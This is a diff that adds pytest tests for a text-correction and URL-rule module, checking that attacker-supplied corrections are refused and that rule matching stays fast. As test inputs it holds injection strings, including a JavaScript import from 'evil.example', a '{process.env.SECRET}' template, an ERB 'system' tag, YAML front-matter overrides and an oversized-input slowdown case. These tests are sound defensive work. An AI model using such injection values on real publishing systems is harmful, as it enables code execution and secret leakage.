@@ -1,0 +1,50 @@
+"""Corrections and rules that an attacker wrote: text stays text, and matching takes bounded time."""
+
+import pytest
+
+from moderation.domain.source.correct import Change, Field, plan
+from moderation.domain.source.url_rules import InvalidRule, paths_for
+from moderation.domain.text.normalise import Quote
+
+YAML = "---\ntitle: {}\n---\n\nтекст\n"
+
+
+def corrected(kind, source, correction):
+    made = plan([Field("f", kind, source)], [Change("a", Quote("котрая", "", ""), correction)])
+    return made.refused.get("a") or made.fields[0].text
+
+
+@pytest.mark.parametrize(
+    ("source", "correction"),
+    [
+        (YAML.format("котрая"), "x\nlayout:\n  evil"),
+        (YAML.format('"котрая"'), "x\nlayout: evil"),
+        ("котрая река\n", "import evil from 'https://evil.example/x.js'"),
+        ("котрая река\n", "{process.env.SECRET}"),
+        ("котрая река\n", "<%= system %>"),
+        ("котрая река\n", "# Заголовок"),
+        ("котрая река\n", "1. пункт"),
+        ("котрая река\n", "    код"),
+        ("река котрая\n", "река\n\n# Заголовок"),
+        ("река котрая\n", "\u2028- пункт"),
+    ],
+)
+def test_a_correction_is_no_markup_setting_or_program_in_markdown(source, correction):
+    assert corrected("markdown", source, correction) == "not_editable"
+
+
+def test_a_correction_embeds_nothing_in_wordpress():
+    assert corrected("wordpress", "река котрая", "\n\nhttps://evil.example/embed\n\n") == "not_editable"
+
+
+def test_a_rule_with_names_that_have_no_border_is_refused():
+    with pytest.raises(InvalidRule, match="between"):
+        list(paths_for("/{a}{b}{c}{d}{e}/ → {a}.md", "https://news.example/a"))
+
+
+def test_no_address_makes_a_rule_slow():
+    rule = "/{y}-{m}-{d}-{slug}/ → {y}/{m}/{d}/{slug}.md"
+    assert list(paths_for(rule, "https://news.example/2026-01-02-a-b/")) == ["2026/01/02/a-b.md"]
+    assert list(paths_for(rule, "https://news.example/" + "-" * 2000 + "/x")) == []
+    many = "-".join(f"{{n{number}}}" for number in range(9))
+    assert list(paths_for(f"/{many}x → a.md", "https://news.example/" + "-" * 2000)) == []
